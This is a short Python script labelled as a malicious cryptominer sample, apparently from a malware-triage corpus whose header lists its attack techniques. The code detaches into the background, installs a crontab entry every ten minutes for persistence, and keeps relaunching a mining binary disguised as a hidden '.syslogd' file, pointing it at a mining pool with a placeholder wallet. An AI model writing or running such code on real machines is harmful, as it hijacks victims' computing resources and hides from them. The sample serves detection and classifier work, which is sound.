# label: malicious family=miner techniques=T1036.005,T1053.003,T1057,T1496 lines=8-10,29,36
#!/usr/bin/env python
import os
import sys
import time
import subprocess

BIN = "/var/tmp/.X11-unix/.syslogd"
POOL = "stratum+tcp://198.51.100.222:5555"
WALLET = "4AFAKEpytriageCORPUSxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"


def daemonize():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)


def running():
    return subprocess.call(["pgrep", "-f", BIN], stdout=subprocess.DEVNULL) == 0


def persist():
    line = "*/10 * * * * %s %s\n" % (sys.executable, os.path.abspath(__file__))
    cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if line not in cur:
        subprocess.run(["crontab", "-"], input=cur + line, text=True)


daemonize()
persist()
while True:
    if not running():
        subprocess.Popen([BIN, "-o", POOL, "-u", WALLET, "-k", "--donate-level=1"])
    time.sleep(120)
